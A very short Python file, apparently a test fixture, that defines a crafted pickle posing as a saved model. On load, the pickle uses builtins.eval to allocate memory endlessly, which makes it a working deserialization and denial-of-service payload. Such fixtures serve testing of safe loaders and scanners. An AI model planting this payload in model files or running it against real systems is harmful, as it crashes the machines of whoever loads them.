"""A saved model whose unpickling takes memory without end."""

PICKLE = "cbuiltins\neval\n(S'[bytearray(b\"x\") * (1 << 24) for _ in iter(int, 1)]'\ntR."
